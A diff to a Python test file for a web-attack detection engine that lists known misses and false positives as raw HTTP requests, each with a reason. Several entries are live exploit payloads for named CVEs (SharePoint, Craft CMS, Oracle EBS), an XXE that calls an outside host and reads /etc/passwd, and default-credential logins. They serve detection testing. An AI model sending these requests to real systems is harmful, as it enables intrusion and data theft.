@@ -19,7 +19,9 @@ from tests.detect.blind_attacks_m import BLIND_ATTACKS_M
 from tests.detect.blind_attacks_n import BLIND_ATTACKS_N
 from tests.detect.blind_attacks_p import BLIND_ATTACKS_P
 from tests.detect.blind_attacks_q import BLIND_ATTACKS_Q
+from tests.detect.blind_attacks_s import BLIND_ATTACKS_S
 from tests.detect.blind_benign import BLIND_BENIGN
+from tests.detect.blind_benign_10 import BLIND_BENIGN_10
 from tests.detect.blind_benign_2 import BLIND_BENIGN_2
 from tests.detect.blind_benign_3 import BLIND_BENIGN_3
 from tests.detect.blind_benign_4 import BLIND_BENIGN_4
@@ -36,7 +38,8 @@ from tests.detect.wild_benign import build_request
 # (14 as written: one OData path sent spaces raw in its request line, percent-encoded since as a client sends it);
 # batches k, l, m and benign_5 (the same session, engine 7ddeb55) 533 of 571, 26 of 359; batches p, q and benign_6,
 # 7, 8 (stop 19, engine ddc5840, the query strings of path entries escaped as a browser sends them) 452 of 468, 93 of
-# 785; batch n (the same engine) 143 of 171.
+# 785; batch n (the same engine) 143 of 171; batches s and benign_10 (stop 20, the session's engine 6920507 plus the
+# new KEV virtual-patch packs, before any fix they prompted) 206 of 220, 21 of 256 (the starting engine alone: 202, 21).
 # What is left after the fixes is listed here, each with the reason it stays;
 # the tests fail when anything else changes in either direction.
 KNOWN_MISS: dict[str, str] = {
@@ -111,8 +114,6 @@ KNOWN_FP: dict[str, str] = {
 }
 # round 6 (batches n, p, q, benign 6-8): what the fixes left, each with its reason
 KNOWN_MISS.update({
-    'raw::POST /_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx HTTP/1.1\r\nHost: sp.example.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0\r\nContent-Type: application/x-www-form-urlencoded\r\nReferer: /_layouts/SignOut.aspx\r\nContent-Length: 637\r\n\r\nMSOTlPn_Uri=http%3A%2F%2Fsp.example.com%2F_controltemplates%2F15%2FAclEditor.ascx&MSOTlPn_DWP=%3C%25%40+Register+Tagprefix%3D%22ScorecardClient%22+Namespace%3D%22Microsoft.PerformancePoint.Scorecards%22+Assembly%3D%22Microsoft.PerformancePoint.Scorecards.Client%2C+Version%3D16.0.0.0%2C+Culture%3Dneutral%2C+PublicKeyToken%3D71e9bce111e9429c%22+%25%3E%3Cscorecardclient%3Aexceldataset+CompressedDataTable%3D%22H4sIAAAAAAAEAO29B2AcSZYlJi9tynt%2FSvVK1%2BB0oQiAYBMk2JBAEOzBiM3mkuwdaUcjKasqgcplVmVdZhZAzO2dvPfee%2B%2B999577733ujudTif33%2F8%2FXGZkAWz2zkrayZ4hgKrIHz9%2BfB8%2FIorFrJ%22+DataTable-CaseSensitive%3Dtrue+runat%3D%22server%22%2F%3E':
-        'SharePoint ToolShell (CVE-2025-53770): an ASP.NET control declaration posted to ToolPane.aspx with a relative Referer; the markup is what the page editor itself posts — a vpatch for SharePoint sites',
     'raw::PATCH /api/users/65f1c0a2e4b0d1a2b3c4d5e6 HTTP/1.1\r\nHost: api.example.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36\r\nAccept: */*\r\nContent-Type: application/merge-patch+json\r\nContent-Length: 40\r\nConnection: close\r\n\r\n{"$set":{"role":"admin","isAdmin":true}}':
         'mass assignment (a merge-patch setting `role: admin`): an authorisation flaw, no payload in the request',
     'raw::POST /api/users/me HTTP/1.1\r\nHost: api.example.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36\r\nAccept: */*\r\nContent-Type: application/json\r\nX-HTTP-Method-Override: PATCH\r\nContent-Length: 25\r\nConnection: close\r\n\r\n{"$set":{"role":"admin"}}':
@@ -121,36 +122,14 @@ KNOWN_MISS.update({
         'Firebase rules that let a client write its own role: an authorisation flaw, no payload',
     'raw::POST /index.php HTTP/1.1\r\nHost: craft.example.com\r\nUser-Agent: python-requests/2.31.0\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 233\r\n\r\naction=conditions/render&test[userCondition]=craft\\elements\\conditions\\users\\UserCondition&config={"name":"test[userCondition]","as xyz":{"class":"\\\\GuzzleHttp\\\\Psr7\\\\FnStream","__construct()":[{"close":null}],"_fn_close":"phpinfo"}}':
         'Craft CMS Yii behaviour injection (CVE-2023-41892): `"as xyz":{"class":…FnStream}` is the framework\'s own config syntax; the gadget is named only in PHP class strings — a vpatch for Craft sites',
-    'raw::POST /index.php?p=admin/actions/assets/generate-transform HTTP/1.1\r\nHost: craft.example.com\r\nUser-Agent: python-requests/2.31.0\r\nContent-Type: application/json\r\nX-CSRF-Token: 3uW2e8Q8pZ\r\nContent-Length: 195\r\n\r\n{"assetId":11,"handle":{"width":123,"height":123,"as session":{"class":"craft\\\\behaviors\\\\FieldLayoutBehavior","__class":"GuzzleHttp\\\\Psr7\\\\FnStream","__construct()":[[]],"_fn_close":"phpinfo"}}}':
-        'Craft CMS generate-transform gadget (CVE-2024-56145 family): same config syntax as above',
-    'raw::POST /p/u/doAuthentication.do HTTP/1.1\r\nHost: gw.example.com\r\nUser-Agent: python-requests/2.31.0\r\nContent-Type: application/x-www-form-urlencoded\r\nConnection: keep-alive\r\nContent-Length: 5\r\n\r\nlogin':
-        "Citrix/NetScaler doAuthentication.do overflow: a five-byte body, the exploit is the endpoint's missing length check",
-    'raw::GET /cgi-bin/sslvpnclient?launchplatform= HTTP/1.1\r\nHost: sslvpn.example.com\r\nUser-Agent: python-requests/2.31.0\r\nCookie: swap=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\r\n\r\n':
-        'SonicWall sslvpnclient `swap` cookie: a base64 session value of the expected shape; product-specific',
-    'path::/mifs/aad/api/v2/authorized/users?adminDeviceSpaceId=1':
-        'MobileIron/Ivanti EPMM API path (CVE-2023-35078): an ordinary API call of the product without credentials — authorisation, a vpatch',
     'raw::GET /ws/cli/open?cols=162&rows=100&local_access_token=1 HTTP/1.1\r\nHost: fgt.example.com\r\nUser-Agent: python-requests/2.31.0\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: thFz/fKwzu5wDEy0XO3fcw==\r\n\r\n':
         "FortiOS `/ws/cli/open` websocket with `local_access_token` (CVE-2024-55591): the product's own endpoint; a vpatch",
     'path::/gwtest/formssso?event=start&target=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA':
         'Citrix formssso `target=AAAA…` overflow probe: 260 letters in a query value; product-specific length, a vpatch',
     'raw::POST /webui/logoutconfirm.html?logon_hash=1 HTTP/1.1\r\nHost: router.example.com\r\nUser-Agent: python-requests/2.31.0\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 0\r\n\r\n':
         "Cisco IOS XE logoutconfirm `logon_hash=1` (CVE-2023-20198 probe): the product's own page; a vpatch",
-    'raw::GET /human2.aspx HTTP/1.1\r\nHost: mft.example.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36\r\nX-siLock-Comment: comment\r\nX-siLock-Step1: -1\r\n\r\n':
-        'MOVEit LEMURLOOT webshell IOC headers (X-siLock-*): a compromise indicator of one product, for threat-intel rules',
-    'raw::POST /app/rest/users/id:1/tokens/RPC2 HTTP/1.1\r\nHost: ci.example.com\r\nUser-Agent: python-requests/2.31.0\r\nContent-Length: 0\r\n\r\n':
-        "TeamCity token endpoint under /RPC2 (CVE-2024-27198 variant): the path itself is the product's API; a vpatch",
-    'path::/app?service=page/SetupCompleted':
-        'Tapestry setup page (`/app?service=page/SetupCompleted`): an owner-used page of one product',
-    'path::/api/index.php/v1/config/application?public=true':
-        'Joomla `?public=true` (CVE-2023-23752): an API flag of the product, no payload; a vpatch',
     'raw::POST /api_jsonrpc.php HTTP/1.1\r\nHost: zabbix.example.com\r\nUser-Agent: python-requests/2.31.0\r\nContent-Type: application/json-rpc\r\nContent-Length: 96\r\n\r\n{"jsonrpc":"2.0","method":"user.login","params":{"username":"Admin","password":"zabbix"},"id":1}':
         'Zabbix default credentials (Admin/zabbix): a login with a weak password, no payload — left to brute-force windows',
-    'raw::POST /SetupWizard.aspx/x HTTP/1.1\r\nHost: support.example.com\r\nUser-Agent: python-requests/2.31.0\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 152\r\n\r\n__EVENTTARGET=&__EVENTARGUMENT=&__VIEWSTATE=%2FwEPDwUKLTcxMjQyMzE4NmRk&ctl00%24Main%24wizard%24StartNavigationTemplateContainerID%24StartNextButton=Next':
-        "SysAid-style SetupWizard.aspx path trick: ASP.NET path info on the product's own page; a vpatch",
-    'raw::POST /OA_HTML/configurator/UiServlet HTTP/1.1\r\nHost: ebs.example.com\r\nUser-Agent: python-requests/2.31.0\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 422\r\n\r\nredirectFromJsp=1&getUiType=%3C%3Fxml+version%3D%221.0%22+encoding%3D%22UTF-8%22%3F%3E%3Cinitialize%3E%3Cparam+name%3D%22init_was_saved%22%3Etest%3C%2Fparam%3E%3Cparam+name%3D%22return_url%22%3Ehttp%3A%2F%2F45.61.1.9%3A7777%3C%2Fparam%3E%3Cparam+name%3D%22ui_def_id%22%3E0%3C%2Fparam%3E%3Cparam+name%3D%22config_effective_usage_id%22%3E0%3C%2Fparam%3E%3Cparam+name%3D%22ui_type%22%3EApplet%3C%2Fparam%3E%3C%2Finitialize%3E':
-        'Oracle EBS UiServlet (CVE-2025-61882): an XML parameter whose return URL the product fetches; product-specific, a vpatch',
-    'raw::POST /WebInterface/function/ HTTP/1.1\r\nHost: ftp.example.com\r\nUser-Agent: python-requests/2.31.0\r\nContent-Type: application/x-www-form-urlencoded\r\nCookie: currentAuth=31If; CrushAuth=1744144130787_5SPqhPXnqTaNfs5aPdTS7b3I1V31If\r\nContent-Length: 75\r\n\r\ncommand=exists&paths=<INCLUDE>users/MainUsers/groups.XML</INCLUDE>&c2f=31If':
-        "CrushFTP `<INCLUDE>` server-side include of the product's own syntax: a vpatch for CrushFTP",
     'raw::POST /api/v1/imports/contacts HTTP/1.1\r\nHost: api.example.com\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:124.0) Gecko/20100101 Firefox/124.0\r\nAccept: application/json\r\nContent-Type: multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW\r\nContent-Length: 1567\r\n\r\n------WebKitFormBoundary7MA4YWxkTrZu0gW\r\nContent-Disposition: form-data; name="file"; filename="contacts.xlsx"\r\nContent-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet\r\n\r\nPK\x03\x04\x14\x00\x00\x00\x00\x00\x00PaX\x0c\udc9d^\udc90\x18\x02\x00\x00\x18\x02\x00\x00\x13\x00\x00\x00[Content_Types].xml<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE Types [<!ENTITY xxe SYSTEM "http://x7k2.oast.fun/xlsx-ct">]>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>&xxe;</Types>PK\x03\x04\x14\x00\x00\x00\x00\x00\x00PaXӪ&\udca8\udcc2\x00\x00\x00\udcc2\x00\x00\x00\x0f\x00\x00\x00xl/workbook.xml<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="Sheet1" sheetId="1"/></sheets></workbook>PK\x03\x04\x14\x00\x00\x00\x00\x00\x00PaX\udcc5 \udc90U\udcef\x00\x00\x00\udcef\x00\x00\x00\x14\x00\x00\x00xl/sharedStrings.xml<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>&xxe;</t></si></sst>PK\x01\x02\x14\x03\x14\x00\x00\x00\x00\x00\x00PaX\x0c\udc9d^\udc90\x18\x02\x00\x00\x18\x02\x00\x00\x13\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\udc80\x01\x00\x00\x00\x00[Content_Types].xmlPK\x01\x02\x14\x03\x14\x00\x00\x00\x00\x00\x00PaXӪ&\udca8\udcc2\x00\x00\x00\udcc2\x00\x00\x00\x0f\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\udc80\x01I\x02\x00\x00xl/workbook.xmlPK\x01\x02\x14\x03\x14\x00\x00\x00\x00\x00\x00PaX\udcc5 \udc90U\udcef\x00\x00\x00\udcef\x00\x00\x00\x14\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\udc80\x018\x03\x00\x00xl/sharedStrings.xmlPK\x05\x06\x00\x00\x00\x00\x03\x00\x03\x00\udcc0\x00\x00\x00Y\x04\x00\x00\x00\x00\r\n------WebKitFormBoundary7MA4YWxkTrZu0gW--\r\n':
         'XXE inside an uploaded .xlsx: the zip part of a multipart upload is not unpacked into points (binary files are not inspected)',
 })
@@ -213,18 +192,73 @@ KNOWN_FP.update({
         'CQL2 `"eo:cloud_cover" < 10`: MySQL reads the double-quoted name as a string and the comparison is true — an injection of the same shape',
 })
 
+# round 7 (stop 20: batches r, s, benign 9, 10, the KEV virtual-patch packs): what the fixes left
+KNOWN_MISS.update({
+    'path::/HNAP1/':
+        "a bare request for D-Link's HNAP endpoint: router recon, reported as scanner:device_path (0.45) and not blocked since stop 20 — on the router it is its own UI (blind benign 10); the exploits sent there carry payloads or match the KEV pack",
+    'path::/boaform/admin/formLogin':
+        "a bare request for a Boa router's login form: recon, reported (scanner:device_path), not blocked — see /HNAP1/",
+    'raw::POST /boaform/admin/formLogin HTTP/1.1\r\nHost: 103.77.10.5:80\r\nContent-Type: application/x-www-form-urlencoded\r\nReferer: http://103.77.10.5:80/admin/login.asp\r\nUser-Agent: Mozilla/5.0\r\nContent-Length: 29\r\n\r\nusername=admin&psd=Feefifofum':
+        "a bot's login to a Realtek/Boa router with default credentials: the request the router's own login page sends; reported (scanner:device_path), not blocked",
+    'raw::GET /HNAP1/ HTTP/1.1\r\nHost: 73.14.209.6:8080\r\nSOAPAction: "http://purenetworks.com/HNAP1/GetDeviceSettings"\r\nUser-Agent: Hello, world\r\nAccept: */*\r\n\r\n':
+        "an HNAP GetDeviceSettings probe: the call the router's own UI makes first; reported (scanner:device_path), not blocked",
+    'path::/config/getuser?index=0':
+        "D-Link DCS account disclosure (CVE-2020-25078): the path alone, which the camera's own pages may call — left out of the KEV pack as uncertain",
+    'raw::GET /currentsetting.htm HTTP/1.1\r\nHost: 71.190.2.18\r\nUser-Agent: Mozila/5.0\r\nAccept: */*\r\n\r\n':
+        "Netgear's firmware-version page, which the Genie app reads: an information probe, no payload",
+    'raw::GET /goform/telnet HTTP/1.1\r\nHost: 113.160.8.6\r\nUser-Agent: Hello, world\r\n\r\n':
+        "Tenda's factory telnet switch: a bare GET of a device path, no payload; a virtual patch for Tenda sites",
+    'raw::GET /cgi-bin/config.exp HTTP/1.1\r\nHost: 64.20.15.81\r\nUser-Agent: python-requests/2.25.1\r\nAccept: */*\r\n\r\n':
+        'Cisco RV320 configuration export (CVE-2019-1653): the path alone, which its admins download too — not in the KEV pack for want of a certain unauthenticated marker',
+    'path::/debug/default/view?panel=config':
+        "Yii's debug panel: a development console its developers use; owner-used consoles stay to the dirbust windows and per-site rules",
+    'path::/index.php?XDEBUG_SESSION_START=phpstorm':
+        "an Xdebug session trigger, what a developer's IDE sends; harmless unless a debugger listens in production",
+    'cookie::rememberMe=1':
+        "`rememberMe=1` is an ordinary cookie on many sites; only Shiro reads it as serialised data (the exploit's long base64 value is caught)",
+    'raw::GET /manager/html HTTP/1.1\r\nHost: 52.14.77.50:8080\r\nAuthorization: Basic dG9tY2F0OnMzY3JldA==\r\nUser-Agent: Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.36\r\n\r\n':
+        "Tomcat's manager with default credentials (tomcat:s3cret): an owner-used console; no default-credential checks are built",
+    'path::/console':
+        "Werkzeug's debugger console path: an ordinary path on many sites",
+    'raw::GET /v1.16/version HTTP/1.1\r\nHost: 52.14.77.53:2375\r\nUser-Agent: Go-http-client/1.1\r\nAccept-Encoding: gzip\r\n\r\n':
+        "the Docker Engine API's version call as docker clients send it: an exposed daemon is a deployment matter",
+})
+KNOWN_FP.update({
+    'raw::POST /apply.cgi HTTP/1.1\r\nHost: router.asus.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36\r\nAccept: */*\r\nAccept-Language: en-US,en;q=0.9\r\nAccept-Encoding: gzip, deflate\r\nX-Requested-With: XMLHttpRequest\r\nOrigin: http://router.asus.com\r\nReferer: http://router.asus.com/Main_Analysis_Content.asp\r\nCookie: asus_token=Hq3kV8pN2wZ5xY7bC1dF4gJ6\r\nConnection: keep-alive\r\nContent-Type: application/x-www-form-urlencoded; charset=UTF-8\r\nContent-Length: 273\r\n\r\ncurrent_page=Main_Analysis_Content.asp&next_page=Main_Analysis_Content.asp&group_id=&modified=0&action_mode=+Refresh+&action_script=&action_wait=&first_time=&preferred_lang=EN&SystemCmd=ping+-c+5+www.google.com&firmver=3.0.0.4&cmdMethod=ping&destIP=www.google.com&pingCNT=5':
+        "ASUS's Network Analysis page posts the command line it runs (`SystemCmd=ping -c 5 …`): a device UI that sends commands by design; a per-site rule",
+    'raw::POST /ubus/?1709546188 HTTP/1.1\r\nHost: 192.168.1.1\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36\r\nAccept: application/json\r\nAccept-Language: en-US,en;q=0.9\r\nAccept-Encoding: gzip, deflate\r\nX-Requested-With: XMLHttpRequest\r\nOrigin: http://192.168.1.1\r\nReferer: http://192.168.1.1/cgi-bin/luci/admin/network/diagnostics\r\nCookie: sysauth_http=9d2c4e6f8a0b1c3d5e7f9a1b3c5d7e9f\r\nConnection: keep-alive\r\nContent-Type: application/json\r\nContent-Length: 172\r\n\r\n{"jsonrpc":"2.0","id":7,"method":"call","params":["9d2c4e6f8a0b1c3d5e7f9a1b3c5d7e9f","file","exec",{"command":"/bin/ping","params":["-4","-c","5","-W","1","openwrt.org"]}]}':
+        "OpenWrt LuCI's diagnostics call ubus `file exec /bin/ping`: commands by design",
+    'raw::POST /cwmpWeb/CPEMgt HTTP/1.1\r\nHost: acs.isp-example.net:7547\r\nUser-Agent: HW_ATP_HTTP\r\nSOAPAction: ""\r\nConnection: keep-alive\r\nContent-Type: text/xml; charset="utf-8"\r\nContent-Length: 1767\r\n\r\n<?xml version="1.0" encoding="UTF-8"?>\n<soap-env:Envelope xmlns:soap-env="http://schemas.xmlsoap.org/soap/envelope/" xmlns:soap-enc="http://schemas.xmlsoap.org/soap/encoding/" xmlns:xsd="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:cwmp="urn:dslforum-org:cwmp-1-0">\n<soap-env:Header><cwmp:ID soap-env:mustUnderstand="1">1804289383</cwmp:ID></soap-env:Header>\n<soap-env:Body><cwmp:Inform><DeviceId><Manufacturer>Huawei Technologies Co., Ltd</Manufacturer><OUI>00E0FC</OUI><ProductClass>HG8245Q2</ProductClass><SerialNumber>48575443A1B2C3D4</SerialNumber></DeviceId><Event soap-enc:arrayType="cwmp:EventStruct[2]"><EventStruct><EventCode>2 PERIODIC</EventCode><CommandKey></CommandKey></EventStruct><EventStruct><EventCode>4 VALUE CHANGE</EventCode><CommandKey></CommandKey></EventStruct></Event><MaxEnvelopes>1</MaxEnvelopes><CurrentTime>2024-03-04T10:15:22+01:00</CurrentTime><RetryCount>0</RetryCount><ParameterList soap-enc:arrayType="cwmp:ParameterValueStruct[4]"><ParameterValueStruct><Name>InternetGatewayDevice.DeviceInfo.SoftwareVersion</Name><Value xsi:type="xsd:string">V5R020C10S115</Value></ParameterValueStruct><ParameterValueStruct><Name>InternetGatewayDevice.ManagementServer.ConnectionRequestURL</Name><Value xsi:type="xsd:string">http://100.72.14.9:7547/tr069</Value></ParameterValueStruct><ParameterValueStruct><Name>InternetGatewayDevice.ManagementServer.ParameterKey</Name><Value xsi:type="xsd:string"></Value></ParameterValueStruct><ParameterValueStruct><Name>InternetGatewayDevice.WANDevice.1.WANConnectionDevice.1.WANPPPConnection.1.ExternalIPAddress</Name><Value xsi:type="xsd:string">81.22.104.77</Value></ParameterValueStruct></ParameterList></cwmp:Inform></soap-env:Body></soap-env:Envelope>\n':
+        "a TR-069 Inform naming the CPE's ConnectionRequestURL on a CGNAT address: a URL with a bare IP in a value reads as remote inclusion",
+    "raw::POST /admin/posts/15 HTTP/1.1\r\nHost: app.example.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36\r\nAccept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8\r\nAccept-Language: en-US,en;q=0.9\r\nAccept-Encoding: gzip, deflate\r\nReferer: https://app.example.com/admin/posts/15/edit\r\nCookie: XSRF-TOKEN=eyJpdiI6ImtYOXBRMnJUNXZXOHlaMWIiLCJ2YWx1ZSI6IlptOXZZbUZ5WW1GNmNYVjRNVEl6TkRVMk56ZzVNR0ZpWTJSbFptZG9hV3ByYkcxdWIzQnhjbk4wZFhaM2VIbDYiLCJtYWMiOiI0ZTFmOGEyYjZjOWQzZTdmMGE1YjhjMWQ0ZTdmMmE2YjljM2Q2ZTBmNGE3YjFjNWQ4ZTJmNmE5YjNjN2QwZTRmIiwidGFnIjoiIn0%3D; laravel_session=eyJpdiI6ImExQjJjM0Q0ZTVGNmc3SDgiLCJ2YWx1ZSI6ImMyVnpjMmx2Ymw5d1lYbHNiMkZrWDJWdVkzSjVjSFJsWkY5aWVWOXNZWEpoZG1WcyIsIm1hYyI6IjlmOGU3ZDZjNWI0YTM5MjgxNzA2ZjVlNGQzYzJiMWEwOWY4ZTdkNmM1YjRhMzkyODE3MDZmNWU0ZDNjMmIxYTAiLCJ0YWciOiIifQ%3D%3D\r\nConnection: keep-alive\r\nUpgrade-Insecure-Requests: 1\r\nOrigin: https://app.example.com\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 390\r\n\r\n_method=PUT&_token=h3KxP9mQ2vL7rT5wN8bC4yF6gJ1sD0aZeUiOoXq&title=Eloquent%3A%20avoiding%20N%2B1%20with%20with()&slug=eloquent-avoiding-n-plus-1&body=Use%20eager%20loading%3A%0A%0A%60%60%60php%0A%24posts%20%3D%20Post%3A%3Awith('author'%2C%20'tags')-%3Ewhere('published'%2C%20true)-%3Eget()%3B%0A%60%60%60%0A%0ACheck%20the%20query%20log%20with%20%60DB%3A%3AenableQueryLog()%3B%60.&published=1":
+        'a blog post with PHP in a Markdown fence: code by design',
+    "raw::POST /newreply.php?do=postreply&t=245612 HTTP/1.1\r\nHost: forums.example.org\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36\r\nAccept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8\r\nAccept-Language: en-US,en;q=0.9\r\nAccept-Encoding: gzip, deflate\r\nReferer: https://forums.example.org/newreply.php?do=newreply&p=1843221\r\nCookie: bb_userid=18842; bb_password=9a4f1c7e3b5d2e8a6c0f9b1d3e5a7c2f; bb_sessionhash=3e9a1c7f5b2d8e4a6c0f9b1d3e5a7c2f\r\nConnection: keep-alive\r\nUpgrade-Insecure-Requests: 1\r\nOrigin: https://forums.example.org\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 719\r\n\r\ntitle=&message=%5BQUOTE%3Ddave_m%3B1843221%5DStill%20getting%20the%20white%20page%20after%20upgrading%20to%20PHP%208.1%5B%2FQUOTE%5D%0A%0ACheck%20your%20config.php%2C%20the%20old%20mysql%20extension%20is%20gone.%20Mine%20was%3A%0A%0A%5BPHP%5D%24config%5B'Database'%5D%5B'dbtype'%5D%20%3D%20'mysqli'%3B%0A%24config%5B'Database'%5D%5B'dbname'%5D%20%3D%20'forum'%3B%5B%2FPHP%5D%0A%0AAlso%20clear%20the%20datastore%20cache.&wysiwyg=0&iconid=0&s=&securitytoken=1709546122-3f6a9c2e8b1d4f7a0c5e9b2d6f8a1c4e7b0d3f69&do=postreply&t=245612&p=1843221&specifiedpost=1&posthash=c4e8a2f6b0d3e7a1c5f9b2d6e0a4c8f1&poststarttime=1709546100&loggedinuser=18842&multiquoteempty=&sbutton=Submit+Reply&signature=1&parseurl=1&emailupdate=9999":
+        'a forum reply quoting shell commands: code by design',
+    'raw::POST /wp-admin/post.php HTTP/1.1\r\nHost: blog.example.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36\r\nAccept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8\r\nAccept-Language: en-US,en;q=0.9\r\nAccept-Encoding: gzip, deflate\r\nReferer: https://blog.example.com/wp-admin/post.php?post=57&action=edit&classic-editor\r\nCookie: wordpress_logged_in_5c0f1a2b3d4e5f6a7b8c9d0e1f2a3b4c=admin%7C1709718922%7CkX9pQ2vN7mL4rT1wB8yC5dF3gH6jK0sAeUiOoZxYcVb%7C3e2f1a0b9c8d7e6f5a4b3c2d1e0f9a8b\r\nConnection: keep-alive\r\nUpgrade-Insecure-Requests: 1\r\nOrigin: https://blog.example.com\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 850\r\n\r\n_wpnonce=8c2e6a0f4b&_wp_http_referer=%2Fwp-admin%2Fpost.php%3Fpost%3D57%26action%3Dedit%26classic-editor&user_ID=1&action=editpost&originalaction=editpost&post_author=1&post_type=post&original_post_status=draft&post_ID=57&post_title=Our%20launch%2C%20as%20seen%20on%20Twitter&content=Thanks%20for%20all%20the%20kind%20words!%0A%0A%3Cblockquote%20class%3D%22twitter-tweet%22%3E%3Cp%20lang%3D%22en%22%20dir%3D%22ltr%22%3ECongrats%20to%20the%20team%20on%20the%20launch!%3C%2Fp%3E%26mdash%3B%20Sam%20(%40sam_dev)%20%3Ca%20href%3D%22https%3A%2F%2Ftwitter.com%2Fsam_dev%2Fstatus%2F1765012345678901234%3Fref_src%3Dtwsrc%255Etfw%22%3EMarch%205%2C%202024%3C%2Fa%3E%3C%2Fblockquote%3E%0A%3Cscript%20async%20src%3D%22https%3A%2F%2Fplatform.twitter.com%2Fwidgets.js%22%20charset%3D%22utf-8%22%3E%3C%2Fscript%3E&publish=Publish&post_status=draft&visibility=public':
+        "a WordPress post embedding Twitter's widgets.js `<script>`: an administrator's stored script is what a stored XSS is",
+    'raw::POST /rest/api/content HTTP/1.1\r\nHost: wiki.example.com\r\nUser-Agent: Apache-HttpClient/4.5.14 (Java/17.0.10)\r\nAccept: application/json\r\nAuthorization: Bearer NjYzMTk0NjQ3NzQ5OmK8v2xQ9pL3mN7rT5wB1yC4dF6gH\r\nContent-Type: application/json\r\nContent-Length: 525\r\n\r\n{"type":"page","title":"Deploying the orders service","space":{"key":"DEV"},"ancestors":[{"id":"983041"}],"body":{"storage":{"representation":"storage","value":"<p>Run the migration before deploying:</p><ac:structured-macro ac:name=\\"code\\" ac:schema-version=\\"1\\"><ac:parameter ac:name=\\"language\\">bash</ac:parameter><ac:plain-text-body><![CDATA[./gradlew flywayMigrate -Dflyway.url=\\"jdbc:postgresql://db-01:5432/orders\\"\\nkubectl rollout restart deployment/orders -n prod]]></ac:plain-text-body></ac:structured-macro>"}}}':
+        'a Confluence page with a bash code macro: code by design',
